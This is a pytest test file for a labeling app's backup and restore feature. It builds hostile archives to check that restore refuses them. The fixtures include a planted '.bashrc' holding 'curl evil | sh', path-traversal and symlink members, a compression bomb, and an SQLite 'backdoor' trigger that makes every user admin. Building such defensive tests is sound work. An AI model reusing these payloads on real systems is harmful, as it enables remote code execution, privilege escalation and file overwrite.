"""Backups: a round trip gives back every row and file; a backup taken while another process
imports is self-consistent; every bad input is refused in one line and a failed restore leaves nothing."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
import types
from pathlib import Path
from typing import Callable

import numpy as np
import pytest

from conftest import ROOT, wait_for
from cowdetect.accounts import PermissionDenied, User, session_secret
import cowdetect.restore as restore_module
from cowdetect.backup import MANIFEST, backup, table_counts
from cowdetect.restore import restore
from cowdetect.cli import main
from cowdetect.detections import Detections
from cowdetect.store import DB_NAME, SCHEMA_VERSION, Store
from cowdetect.store.schema import MIGRATIONS

SKIPPED = ("cache/", "tmp/")


def tiny_png(seed: int) -> np.ndarray:
    return np.random.default_rng(seed).integers(0, 255, (64, 64, 3), dtype=np.uint8)


def make_store(root: Path) -> Store:
    """Three labeled 64 px images, a model version, a run with its folder and checkpoint, a video
    with ground truth, converted weights, the session secret and a cache file (which is skipped)."""
    store = Store(root / "data")
    for i in range(3):
        record, _ = store.add_image(tiny_png(i), f"cow{i}.png", split="train")
        store.set_boxes(record.id, Detections(np.array([[2, 3, 30 + i, 40]]), np.array([1])))
    (root / "tiny.pt").write_bytes(b"weights of a tiny model")
    model = store.add_model("tiny", "fasterrcnn_mobilenet_v3_large_320_fpn", ["cow"], root / "tiny.pt")
    run_id, _ = store.add_run("train", {"iterations": 10})
    folder = store.data_dir / "runs" / f"run-{run_id}"
    folder.mkdir(parents=True)
    (folder / "iter_000010.pt").write_bytes(b"checkpoint at 10")
    (folder / "log.txt").write_text("iteration 10\n")
    store.update_run(run_id, checkpoint=f"runs/run-{run_id}/iter_000010.pt", checkpoint_iteration=10,
                     model_id=model.id, status="done")
    store.add_video(b"not really a video", "field.mp4", 160, 96, 10.0, 20, "1,1,2,3,10,10,1,-1,-1,-1\n")
    store.weights_dir.mkdir()
    (store.weights_dir / "ssd.pt").write_bytes(b"converted weights")
    session_secret(store.data_dir)
    (store.data_dir / "cache" / "detections").mkdir(parents=True)
    (store.data_dir / "cache" / "detections" / "x.f32").write_bytes(b"cache")
    return store


def dump(data_dir: Path) -> dict[str, list[tuple]]:
    """Every row of every table, in order."""
    conn = sqlite3.connect(data_dir / DB_NAME)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                             "AND name NOT LIKE 'sqlite_%'")]
        return {t: conn.execute(f'SELECT * FROM "{t}" ORDER BY rowid').fetchall() for t in tables}
    finally:
        conn.close()


def checksums(data_dir: Path) -> dict[str, str]:
    """sha256 of every file a restore should give back (the database is compared by its rows)."""
    found = {}
    for path in data_dir.rglob("*"):
        name = path.relative_to(data_dir).as_posix()
        if path.is_file() and not name.startswith(SKIPPED) and not name.startswith(DB_NAME):
            found[name] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def self_consistent(store: Store) -> None:
    """Every row's file is there and every image's bytes hash to its row's sha256."""
    for image in store.images():
        assert hashlib.sha256(image.path.read_bytes()).hexdigest() == image.sha256, image
    for model in store.models():
        assert model.checkpoint.is_file(), model
    for video in store.videos():
        assert video.path.is_file() and (video.gt_path is None or video.gt_path.is_file()), video


@pytest.fixture
def source(tmp_path: Path) -> Store:
    return make_store(tmp_path / "source")


@pytest.fixture
def archive(source: Store, tmp_path: Path) -> Path:
    return backup(source, tmp_path / "backup.tar.gz").path


# -- round trip ------------------------------------------------------------------------------
def test_round_trip_gives_back_every_row_and_file(source: Store, tmp_path: Path):
    rows, files = dump(source.data_dir), checksums(source.data_dir)
    report = backup(source, tmp_path / "b.tar")
    assert report.rows["images"] == 3 and report.rows["boxes"] == 3 and report.rows["models"] == 1
    assert report.missing == [] and oct((tmp_path / "b.tar").stat().st_mode & 0o777) == "0o600"
    with tarfile.open(tmp_path / "b.tar") as tar:
        assert not [n for n in tar.getnames() if n.startswith(SKIPPED)]

    restored = restore(tmp_path / "b.tar", tmp_path / "restored")
    target = Store(tmp_path / "restored")
    assert dump(target.data_dir) == rows
    assert checksums(target.data_dir) == files
    assert restored.rows == report.rows and restored.files == report.files
    assert (target.data_dir / "secret.key").stat().st_mode & 0o777 == 0o600
    assert not (target.data_dir / MANIFEST).exists()
    self_consistent(target)
    assert target.runs()[0].checkpoint_iteration == 10 and target.videos()[0].gt_path.is_file()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left


def test_backup_records_when_it_was_made(source: Store, tmp_path: Path):
    report = backup(source, tmp_path / "b.tgz")
    last = json.loads(source.setting("last_backup"))
    assert last["archive"] == "b.tgz" and last["at"] == report.at and last["rows"]["images"] == 3
    assert source.activity(1)[0]["action"] == "backup"


def test_restore_into_an_existing_empty_folder(archive: Path, tmp_path: Path):
    (tmp_path / "empty").mkdir()
    restore(archive, tmp_path / "empty")
    assert Store(tmp_path / "empty").count_images() == 3


def test_a_referenced_file_that_is_gone_is_reported_not_raised(source: Store, tmp_path: Path):
    gone = source.images()[0]
    gone.path.unlink()
    report = backup(source, tmp_path / "b.tar")
    assert report.missing == [gone.path.relative_to(source.data_dir).as_posix()]
    assert "1 referenced files were missing" in report.summary()
    assert restore(tmp_path / "b.tar", tmp_path / "r").missing == report.missing
    assert Store(tmp_path / "r").count_images() == 3  # the row is kept: its file is what is lost


def test_files_are_archived_as_the_database_copy_knew_them(source: Store, tmp_path: Path, monkeypatch):
    """An image deleted and a checkpoint rewritten while the archive is written (after the database
    copy) are archived as they were: the files were hard-linked right after the copy."""
    import cowdetect.backup as module

    image, checkpoint = source.images()[0], source.data_dir / source.runs()[0].checkpoint
    real = module.write_archive

    def meanwhile(*args, **kwargs):
        source.delete_image(image.id)
        checkpoint.with_suffix(".new").write_bytes(b"a later checkpoint")
        checkpoint.with_suffix(".new").replace(checkpoint)
        return real(*args, **kwargs)

    monkeypatch.setattr(module, "write_archive", meanwhile)
    report = backup(source, tmp_path / "b.tar")
    assert report.missing == [] and report.rows["images"] == 3
    restore(tmp_path / "b.tar", tmp_path / "r")
    copy = Store(tmp_path / "r")
    self_consistent(copy)
    assert (copy.data_dir / source.runs()[0].checkpoint).read_bytes() == b"checkpoint at 10"


def test_an_older_backup_is_migrated_on_restore(tmp_path: Path):
    old = tmp_path / "old.sqlite"
    conn = sqlite3.connect(old)
    for number, script in enumerate(MIGRATIONS[:5]):
        conn.executescript("BEGIN;" + script + f"; PRAGMA user_version = {number + 1}; COMMIT;")
    conn.close()
    rows = {"boxes": 0, "classes": 1, "images": 0, "label_effort": 0, "models": 0, "results": 0, "run_points": 0,
            "runs": 0, "suggestion_sets": 0, "suggestions": 0, "videos": 0}
    write_tar(tmp_path / "old.tar", {DB_NAME: old.read_bytes()}, schema=5, rows=rows)
    restore(tmp_path / "old.tar", tmp_path / "r")
    with sqlite3.connect(tmp_path / "r" / DB_NAME) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert Store(tmp_path / "r").setting("last_backup") is None  # schema 6's settings table exists


# -- under load --------------------------------------------------------------------------------
IMPORTER = """
import sys, numpy as np
from pathlib import Path
from cowdetect.detections import Detections
from cowdetect.store import Store
store, stop, i = Store(sys.argv[1]), Path(sys.argv[2]), 1000
while not stop.exists():
    image = np.random.default_rng(i).integers(0, 255, (64, 64, 3), dtype=np.uint8)
    store.add_image(image, f"imported{i}.png", boxes=Detections(np.array([[1, 1, 20, 20]]), np.array([1])))
    i += 1
"""


def test_backup_while_another_process_imports_is_consistent(source: Store, tmp_path: Path):
    stop, before = tmp_path / "stop", source.count_images()
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COWDETECT_THREADS": "1"}
    importer = subprocess.Popen([sys.executable, "-c", IMPORTER, str(source.data_dir), str(stop)], env=env,
                                stderr=subprocess.PIPE, text=True)
    try:
        wait_for(lambda: source.count_images() >= before + 5 or importer.poll() is not None, 60, "imports")
        report = backup(source, tmp_path / "b.tar")
        during = source.count_images()
    finally:
        stop.touch()
        _, err = importer.communicate(timeout=60)
    assert importer.returncode == 0, err
    assert report.rows["images"] > before and not report.missing
    restore(tmp_path / "b.tar", tmp_path / "r")
    copy = Store(tmp_path / "r")
    assert report.rows["images"] == copy.count_images() <= during
    assert len(copy.images()) == sum(1 for _ in (copy.data_dir / "images").rglob("*.png"))
    assert all(len(copy.boxes(im.id)) == 1 for im in copy.images())
    self_consistent(copy)


# -- refusals ----------------------------------------------------------------------------------
def write_tar(path: Path, members: dict[str, bytes], schema: int = SCHEMA_VERSION, rows: dict | None = None,
              manifest: dict | None = None, extra: Callable[[tarfile.TarFile], None] | None = None) -> Path:
    """An archive of ``members`` with a manifest that lists them truthfully (or ``manifest``)."""
    files = {n: {"sha256": hashlib.sha256(d).hexdigest(), "bytes": len(d)} for n, d in members.items()}
    manifest = manifest or {"format": "cowdetect-backup", "format_version": 1, "schema_version": schema,
                            "created_at": "2026-01-01T00:00:00Z", "rows": rows or {}, "missing": [], "files": files}
    with tarfile.open(path, "w") as tar:
        for name, data in {**members, MANIFEST: json.dumps(manifest).encode()}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        if extra is not None:
            extra(tar)
    return path


def members_of(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}


def tampered(archive: Path, out: Path) -> Path:
    """The backup with one image's bytes changed and its manifest left as it was."""
    members = members_of(archive)
    name = next(n for n in members if n.startswith("images/"))
    members[name] = members[name][:-1] + bytes([members[name][-1] ^ 1])
    manifest = json.loads(members.pop(MANIFEST))
    return write_tar(out, members, manifest=manifest)


def with_member(kind: str) -> Callable[[Path, Path], Path]:
    def make(archive: Path, out: Path) -> Path:
        members = members_of(archive)
        manifest = json.loads(members.pop(MANIFEST))

        def add(tar: tarfile.TarFile) -> None:
            info = tarfile.TarInfo({"traversal": "../evil.txt", "absolute": "/tmp/evil.txt"}.get(kind, "images/evil"))
            if kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
            if kind == "device":
                info.type = tarfile.CHRTYPE
            info.size = 0 if kind in ("symlink", "device") else 4
            tar.addfile(info, io.BytesIO(b"evil") if info.size else None)
        return write_tar(out, members, manifest=manifest, extra=add)
    return make


def edited_manifest(**changes) -> Callable[[Path, Path], Path]:
    def make(archive: Path, out: Path) -> Path:
        members = members_of(archive)
        manifest = {**json.loads(members.pop(MANIFEST)), **changes}
        return write_tar(out, members, manifest=manifest)
    return make


def extra_file(archive: Path, out: Path) -> Path:
    members = members_of(archive)
    manifest = json.loads(members.pop(MANIFEST))
    return write_tar(out, {**members, "images/planted.png": b"x"}, manifest=manifest)


def stray_file(archive: Path, out: Path) -> Path:
    """A file outside a data folder's layout, listed in the manifest with its true checksum."""
    members = {**members_of(archive), ".bashrc": b"curl evil | sh"}
    manifest = json.loads(members.pop(MANIFEST))
    manifest["files"][".bashrc"] = {"sha256": hashlib.sha256(members[".bashrc"]).hexdigest(), "bytes": 14}
    return write_tar(out, members, manifest=manifest)


def no_manifest(archive: Path, out: Path) -> Path:
    with tarfile.open(out, "w") as tar:
        tar.add(archive, "images/not-a-backup.tar.gz")
    return out


def cut_short(archive: Path, out: Path) -> Path:
    out.write_bytes(archive.read_bytes()[:len(archive.read_bytes()) // 2])
    return out


def not_a_tar(archive: Path, out: Path) -> Path:
    out.write_bytes(b"just some text, not an archive\n" * 10)
    return out


def altered_database(script: str) -> Callable[[Path, Path], Path]:
    """The backup with ``script`` run on its database, and a manifest that tells the truth about the
    result (rows, sizes, checksums): only the restore's own look into the database can refuse it."""
    def make(archive: Path, out: Path) -> Path:
        members = members_of(archive)
        schema = json.loads(members.pop(MANIFEST))["schema_version"]
        db = out.with_suffix(".sqlite")
        db.write_bytes(members[DB_NAME])
        conn = sqlite3.connect(db)
        conn.executescript(script)
        rows = table_counts(conn)
        conn.close()
        return write_tar(out, {**members, DB_NAME: db.read_bytes()}, schema=schema, rows=rows)
    return make


def schemaless(archive: Path, out: Path) -> Path:
    """A database without a single table that claims the current schema, with a matching manifest."""
    db = out.with_suffix(".sqlite")
    with contextlib.closing(sqlite3.connect(db)) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION}")
    return write_tar(out, {DB_NAME: db.read_bytes()}, rows={})


def resized(archive: Path, out: Path) -> Path:
    """A member bigger than the manifest (written last, as backups do) says."""
    members = members_of(archive)
    manifest = json.loads(members.pop(MANIFEST))
    name = next(n for n in members if n.startswith("images/"))
    manifest["files"][name]["bytes"] = 10
    return write_tar(out, members, manifest=manifest)


def huge_header(archive: Path, out: Path) -> Path:
    """A pax header of 2 MB: tarfile would read it into memory whole (a .tar.gz of GBs of them)."""
    members = members_of(archive)
    manifest = json.loads(members.pop(MANIFEST))

    def add(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("images/empty")
        info.pax_headers = {"comment": "x" * (2 << 20)}
        tar.addfile(info, io.BytesIO(b""))
    return write_tar(out, members, manifest=manifest, extra=add)


BACKDOOR = "AFTER INSERT ON activity BEGIN UPDATE users SET role = 'admin'; END"
HIDDEN = f"CREATE TRIGGER sqlite_hidden {BACKDOOR}".replace("'", "''")  # quoted for an SQL string
SCHEMA_REFUSALS = [
    ("trigger", altered_database(f"CREATE TRIGGER backdoor {BACKDOOR};"),
     "the database holds trigger 'backdoor', which cowdetect's migrations do not create (schema"),
    ("view", altered_database("CREATE VIEW everyone AS SELECT * FROM users;"), "holds view 'everyone'"),
    ("extra table", altered_database("CREATE TABLE notes (x);"), "holds table 'notes'"),
    ("extra index", altered_database("CREATE INDEX users_role ON users(role);"), "holds index 'users_role'"),
    ("trigger named like SQLite's own", altered_database(  # SQLite reserves the name, writable_schema does not
        "PRAGMA writable_schema = ON; INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES "
        f"('trigger', 'sqlite_hidden', 'activity', 0, '{HIDDEN}');"), "holds trigger 'sqlite_hidden'"),
    ("users without NOCASE", altered_database(
        "PRAGMA writable_schema = ON; UPDATE sqlite_master SET sql = replace(sql, ' COLLATE NOCASE', '') "
        "WHERE name = 'users';"), "the database's table 'users' differs from what cowdetect's migrations create"),
    ("dropped table", altered_database("DROP TABLE settings;"), "the database lacks table 'settings', which"),
    ("no tables", schemaless, "the database lacks table 'activity', which cowdetect's migrations create"),
    ("dangling row", altered_database("INSERT INTO boxes(image_id, class_name, x_min, y_min, x_max, y_max) "
                                      "VALUES (999, 'cow', 0, 0, 1, 1);"),
     "the database's boxes row 4 points to a missing images row"),
    ("swapped index pages", altered_database(
        "CREATE TEMP TABLE pages AS SELECT name, rootpage FROM sqlite_master "
        "WHERE name IN ('images_split', 'images_labeled'); PRAGMA writable_schema = ON; "
        "UPDATE sqlite_master SET rootpage = (SELECT rootpage FROM pages WHERE pages.name != sqlite_master.name) "
        "WHERE name IN ('images_split', 'images_labeled');"), "the database fails SQLite's integrity check ("),
]
RESTORE_REFUSALS = [
    ("tampered", tampered, "checksum mismatch in 1 of 11 files (e.g. images/"),
    ("traversal", with_member("traversal"), "unsafe member '../evil.txt'"),
    ("absolute", with_member("absolute"), "unsafe member '/tmp/evil.txt'"),
    ("symlink", with_member("symlink"), "(link)"),
    ("device", with_member("device"), "(device or special file)"),
    ("planted file", extra_file, "images/planted.png is not in the manifest"),
    ("stray file", stray_file, "holds '.bashrc', which is no part of a data folder"),
    ("not a tar", not_a_tar, "bad.tar is not a tar archive (.tar, .tar.gz or .tgz)"),
    ("cut short", cut_short, "bad.tar is damaged or cut short ("),
    ("no manifest", no_manifest, "is not a cowdetect backup (no readable manifest.json)"),
    ("foreign manifest", edited_manifest(format="something-else"), "(manifest.json is not ours)"),
    ("format version", edited_manifest(format_version=2), "is backup format version 2"),
    ("newer schema", edited_manifest(schema_version=SCHEMA_VERSION + 1), "newer than this cowdetect understands"),
    ("row counts", edited_manifest(rows={"images": 99}), "rows or schema differ from the manifest"),
    ("schema 0", edited_manifest(schema_version=0), "holds database schema 0, which no cowdetect writes"),
    ("bigger than listed", resized, "bytes in the archive but 10 in its manifest.json"),
    ("huge header", huge_header, "is damaged or cut short (a header of"),
    *SCHEMA_REFUSALS,
]


@pytest.mark.parametrize("case, make, message", RESTORE_REFUSALS, ids=[c[0] for c in RESTORE_REFUSALS])
def test_restore_refuses_and_leaves_nothing(archive: Path, tmp_path: Path, case, make, message):
    bad = make(archive, tmp_path / "bad.tar")
    place = tmp_path / "place"
    place.mkdir()
    with pytest.raises(ValueError) as err:
        restore(bad, place / "data")
    assert message in str(err.value) and "\n" not in str(err.value)
    assert list(place.iterdir()) == []  # neither the target nor a staging folder


def test_restore_refuses_a_folder_that_is_not_empty(archive: Path, tmp_path: Path):
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "notes.txt").write_text("mine")
    with pytest.raises(ValueError, match=r"^restore: .*busy is not empty; restore into an empty or new folder$"):
        restore(archive, tmp_path / "busy")
    assert [p.name for p in (tmp_path / "busy").iterdir()] == ["notes.txt"]


def test_restore_refuses_a_read_only_place(archive: Path, tmp_path: Path, monkeypatch):
    (tmp_path / "ro").mkdir(mode=0o500)
    if os.geteuid() == 0:  # root may write anywhere: let the check see the folder as anyone else would
        monkeypatch.setattr(os, "access", lambda path, mode: False)
    try:
        with pytest.raises(PermissionError, match="permission denied"):
            restore(archive, tmp_path / "ro" / "data")
    finally:
        (tmp_path / "ro").chmod(0o700)


@pytest.mark.parametrize("out, message", [
    ("exists.tar", "exists already; a backup never overwrites"),
    ("backup.zip", "must end in .tar, .tar.gz or .tgz"),
    (".tar", "must end in .tar, .tar.gz or .tgz"),
    ("nowhere/b.tar", "does not exist"),
    ("source/data/b.tar", "is inside the data folder"),
    ("source/data/images/b.tar.gz", "is inside the data folder"),
])
def test_backup_refuses(source: Store, tmp_path: Path, out, message):
    (tmp_path / "exists.tar").write_bytes(b"keep me")
    with pytest.raises(ValueError) as err:
        backup(source, tmp_path / out)
    assert message in str(err.value) and "\n" not in str(err.value)
    assert (tmp_path / "exists.tar").read_bytes() == b"keep me"
    assert not list(tmp_path.glob("*.partial")) and source.setting("last_backup") is None


def test_a_labeler_may_not_back_up(source: Store, tmp_path: Path):
    source.add_user("ada", "admin", "admin password")
    source.as_user(User("ada", "admin")).add_user("bob", "labeler", "labeler password")
    with pytest.raises(PermissionDenied, match="bob \\(labeler\\) may not backup: that needs the admin role"):
        backup(source.as_user(User("bob", "labeler")), tmp_path / "b.tar")
    assert not (tmp_path / "b.tar").exists()


# -- the command line ------------------------------------------------------------------------
def run_cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def test_cli_backup_and_restore(source: Store, tmp_path: Path):
    code, out, err = run_cli("backup", str(tmp_path / "b.tar.gz"), "--data-dir", str(source.data_dir), "--json")
    assert code == 0, err
    made = json.loads(out)
    assert made["rows"]["images"] == 3 and made["missing"] == []
    code, out, err = run_cli("restore", str(tmp_path / "b.tar.gz"), "--data-dir", str(tmp_path / "r"), "--json")
    assert code == 0, err
    assert json.loads(out)["rows"] == made["rows"] and Store(tmp_path / "r").count_images() == 3


def test_cli_errors_are_one_line(source: Store, tmp_path: Path):
    code, _, err = run_cli("restore", str(tmp_path / "missing.tar"), "--data-dir", str(tmp_path / "r"))
    assert (code, err) == (2, f"error: restore: no archive at {tmp_path / 'missing.tar'}\n")
    code, _, err = run_cli("backup", str(tmp_path / "b.tar"), "--data-dir", str(tmp_path / "typo"))
    assert code == 2 and err.startswith("error: backup: no data folder at") and not (tmp_path / "typo").exists()


# -- archives that would fill the disk, and what a killed backup or restore leaves ------------
def zeros_bomb(archive: Path, tmp_path: Path, monkeypatch) -> Path:
    """A .tar.gz of 20 KB unpacking to 20 MB of zeros, and no manifest."""
    out = tmp_path / "bomb.tar.gz"
    with tarfile.open(out, "w:gz") as tar:
        info = tarfile.TarInfo("images/aa/zeros.png")
        info.size = 20 << 20
        tar.addfile(info, io.BytesIO(bytes(info.size)))
    return out


def no_room(archive: Path, tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setattr(shutil, "disk_usage", lambda path: types.SimpleNamespace(total=1 << 30, used=0, free=1 << 20))
    return archive


def small_manifest_cap(archive: Path, tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setattr(restore_module, "MAX_MANIFEST", 100)
    return archive


BEFORE_WRITING = [
    ("no manifest", zeros_bomb, "bomb.tar.gz is not a cowdetect backup (no readable manifest.json)"),
    ("bigger than listed", lambda a, t, m: resized(a, t / "bad.tar"), "bytes in the archive but 10 in its"),
    ("not listed", lambda a, t, m: extra_file(a, t / "bad.tar"), "images/planted.png is not in the manifest"),
    ("no room", no_room, "MB of free disk space (its files, 10% and 64 MiB to spare); 1 MB are free"),
    ("manifest too big", small_manifest_cap, "manifest.json is "),
]


@pytest.mark.parametrize("case, make, message", BEFORE_WRITING, ids=[c[0] for c in BEFORE_WRITING])
def test_restore_reads_every_header_and_the_manifest_before_it_writes(archive: Path, tmp_path: Path, monkeypatch,
                                                                      case, make, message):
    """The manifest comes last in a backup: a first pass reads only headers, so a small archive
    that unpacks to far more (or was altered) is refused before a byte is written."""
    bad = make(archive, tmp_path, monkeypatch)
    monkeypatch.setattr(restore_module, "unpack", lambda *args: pytest.fail("unpacked before every check"))
    (tmp_path / "place").mkdir()
    with pytest.raises(ValueError) as err:
        restore(bad, tmp_path / "place" / "data")
    assert message in str(err.value) and "\n" not in str(err.value)
    assert list((tmp_path / "place").iterdir()) == []


def test_unpacking_stops_at_the_size_the_manifest_says(archive: Path, tmp_path: Path):
    """Should the archive change between the two passes, no file gets more bytes than declared."""
    with tarfile.open(archive) as tar:
        member = next(m for m in tar if m.name.startswith("images/"))
        with pytest.raises(ValueError, match=f"^restore: backup.tar.gz: {member.name} holds more than the 10 bytes "
                                             f"its manifest.json says; nothing restored$"):
            restore_module.write_member(archive, tar, member, tmp_path, 10)
    assert (tmp_path / member.name).stat().st_size <= 10
    with open(archive, "rb") as raw:
        manifest = restore_module.survey(archive, raw, 1 << 40)
        manifest["files"][member.name]["bytes"] = 10
        (tmp_path / "into").mkdir()
        with pytest.raises(ValueError, match="bytes in the archive but 10 in its manifest.json"):
            restore_module.unpack(archive, raw, tmp_path / "into", manifest)
    assert not (tmp_path / "into" / member.name).exists()


STALLED_BACKUP = """
import sys, time
import cowdetect.backup as module
from cowdetect.store import Store
archived = module.add_file
def stall(*args):
    entry = archived(*args)
    time.sleep(600)  # killed here, with its scratch folder and partial archive written
    return entry
module.add_file = stall
module.backup(Store(sys.argv[1]), sys.argv[2])
"""


def test_a_backup_killed_midway_is_cleaned_up_by_the_next(source: Store, tmp_path: Path):
    out, scratch = tmp_path / "b.tar", source.data_dir / "tmp"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "COWDETECT_THREADS": "1"}
    killed = subprocess.Popen([sys.executable, "-c", STALLED_BACKUP, str(source.data_dir), str(out)], env=env,
                              stderr=subprocess.PIPE, text=True)
    partial = out.with_name(f"b.tar.{killed.pid}.partial")
    try:
        wait_for(lambda: killed.poll() is not None
                 or (partial.exists() and list(scratch.glob(f"backup-{killed.pid}-*"))), 60, "a half-written backup")
        assert killed.poll() is None, killed.communicate()[1]
    finally:
        killed.send_signal(signal.SIGKILL)
        killed.communicate(timeout=60)
    [left] = scratch.glob(f"backup-{killed.pid}-*")
    assert (left / DB_NAME).stat().st_mode & 0o777 == 0o600  # it holds password hashes
    assert partial.stat().st_mode & 0o777 == 0o600

    report = backup(source, out)  # the same name: the dead backup's partial archive does not stand in the way
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("b.tar")] == ["b.tar"]
    assert list(scratch.iterdir()) == []
    restore(out, tmp_path / "r")
    assert Store(tmp_path / "r").count_images() == report.rows["images"] == 3


def test_a_restore_killed_midway_is_cleaned_up_by_the_next(archive: Path, tmp_path: Path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    beside, inside = tmp_path / f".data.restore-{dead.pid}-x1y2", tmp_path / "data" / f".restore-{dead.pid}-x1y2"
    running = tmp_path / f".data.restore-{os.getpid()}-x1y2"  # a restore that still runs: kept
    for folder in (beside, inside, running):
        folder.mkdir(parents=True)
        (folder / DB_NAME).write_bytes(b"password hashes")
    restore(archive, tmp_path / "data")
    assert not beside.exists() and not inside.exists() and running.is_dir()
    assert Store(tmp_path / "data").count_images() == 3


@pytest.mark.parametrize("suffix", [".tar", ".tar.gz"])
def test_files_larger_than_a_read_round_trip(source: Store, tmp_path: Path, suffix):
    """Restore reads at most 1 MiB at a time (a header larger than that is refused): a 3 MB checkpoint
    and a file with a name too long for a plain tar header (a pax header) still come back whole."""
    big = os.urandom(3 << 20)
    (source.weights_dir / "big.pt").write_bytes(big)
    (source.weights_dir / ("w" * 150 + ".pt")).write_bytes(b"long name")
    backup(source, tmp_path / f"b{suffix}")
    restore(tmp_path / f"b{suffix}", tmp_path / "r")
    assert (tmp_path / "r" / "weights" / "big.pt").read_bytes() == big
    assert (tmp_path / "r" / "weights" / ("w" * 150 + ".pt")).read_bytes() == b"long name"
